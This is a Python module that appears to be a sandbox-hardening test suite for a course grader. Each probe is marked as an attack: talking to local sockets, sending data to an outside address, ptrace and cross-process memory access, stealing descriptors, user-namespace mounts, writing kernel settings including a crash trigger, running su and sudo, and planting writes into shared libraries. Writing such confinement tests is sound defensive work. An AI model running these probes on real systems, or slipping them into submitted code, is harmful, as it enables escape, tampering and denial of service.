"""Reaching out of the sandbox: the network, the kernel's calls, privileges, devices."""

from __future__ import annotations

from .corpus import ABSTRACT, COURSE, GRADER, PORT, Gain, attack


@attack(Gain.LOOT, quick=True)
def a_server_of_the_machine():
    """Talks to a server on the grader's own machine, such as its database."""
    import socket

    print(socket.create_connection(("127.0.0.1", PORT), 2).recv(200).decode())


@attack(Gain.LOOT)
def a_socket_without_a_file():
    """Talks to an abstract socket, which no mount hides."""
    import socket

    client = socket.socket(socket.AF_UNIX)
    client.settimeout(2)
    client.connect("\0" + ABSTRACT)
    print(client.recv(200).decode())


@attack(Gain.LOOT)
def a_socket_in_a_file():
    """Talks to a socket in the course's folder."""
    import socket

    client = socket.socket(socket.AF_UNIX)
    client.settimeout(2)
    client.connect(f"{COURSE}/socket")
    print(client.recv(200).decode())


@attack(Gain.NONE)
def the_world():
    """Sends what it knows to somewhere else, over TCP, UDP and a name that is looked up."""
    import socket

    for kind, address in ((socket.SOCK_STREAM, ("192.0.2.1", 80)), (socket.SOCK_DGRAM, ("192.0.2.1", 53))):
        with socket.socket(socket.AF_INET, kind) as client:
            client.settimeout(0.5)
            try:
                client.connect(address)
                client.send(b"pwned")
                print("PWNED")
            except OSError as error:
                print(error)
    try:
        print("PWNED", socket.getaddrinfo("example.org", 80))
    except OSError as error:
        print(error)


@attack(Gain.NONE)
def a_debugger_on_the_process_above():
    """Attaches to the processes above with ptrace, to read and change their memory."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), 1, GRADER):
        print("PWNED" if libc.ptrace(16, pid, 0, 0) == 0 else os.strerror(ctypes.get_errno()))


@attack(Gain.NONE)
def memory_of_other_processes_by_system_call():
    """Reads and writes other processes' memory without a debugger."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    content = ctypes.create_string_buffer(64)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(content), 64)
    for pid in (os.getppid(), 1, GRADER):
        for name in ("process_vm_readv", "process_vm_writev"):
            done = getattr(libc, name)(pid, vector, 1, (ctypes.c_void_p * 2)(0x400000, 64), 1, 0)
            print("PWNED" if done > 0 else os.strerror(ctypes.get_errno()))


@attack(Gain.NONE)
def descriptors_taken_from_other_processes():
    """Copies the descriptors of the process above: the grader's channels are among the supervisor's."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (1, os.getppid()):
        try:
            handle = os.pidfd_open(pid)
        except OSError as error:
            print(error.strerror)
            continue
        for fd in range(64):
            if libc.syscall(438, handle, fd, 0) >= 0:
                print("PWNED", fd)


@attack(Gain.NONE)
def a_namespace_of_its_own():
    """Becomes root in a user namespace, and mounts what it likes there."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    if os.fork() == 0:
        if libc.unshare(0x10000000 | 0x00020000) == 0:
            os.write(1, b"PWNED\n")
        if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0:
            os.write(1, b"PWNED\n")
        os._exit(0)
    os.wait()


@attack(Gain.NONE)
def devices_and_settings_of_the_kernel():
    """Makes device files, writes core patterns and asks for a crash of the machine."""
    import os
    import stat

    for act in (
        lambda: os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)),
        lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x"),
        lambda: open("/proc/sysrq-trigger", "w").write("c"),
        lambda: os.chmod("/dev/null", 0),
        lambda: os.chroot("/tmp"),
        lambda: os.setuid(0),
        lambda: open("/proc/1/oom_score_adj", "w").write("1000"),
    ):
        try:
            act()
            print("PWNED")
        except OSError as error:
            print(error.strerror)


@attack(Gain.NONE)
def programs_that_change_who_one_is():
    """Runs the programs of the system that gain privileges: su, sudo, mount, ping."""
    import subprocess

    for program in ("su", "sudo", "mount", "newgrp", "pkexec"):
        try:
            done = subprocess.run([program, "-c", "id"], capture_output=True, text=True, stdin=subprocess.DEVNULL)
            print(program, "PWNED" if "uid=0" in done.stdout and "sandbox" not in done.stdout else done.returncode)
        except OSError as error:
            print(program, error.strerror)


@attack(Gain.NONE)
def libraries_changed_for_the_next():
    """Writes into the libraries and the sandbox's own modules, so that the next submission loads them."""
    import sys

    import numpy

    for module in (numpy, sys.modules["json"], sys.modules["confined"]):
        for path in (module.__file__, module.__file__ + ".planted"):
            try:
                open(path, "a").write("\n# planted\n")
                print("PWNED", path)
            except OSError as error:
                print(error.strerror)
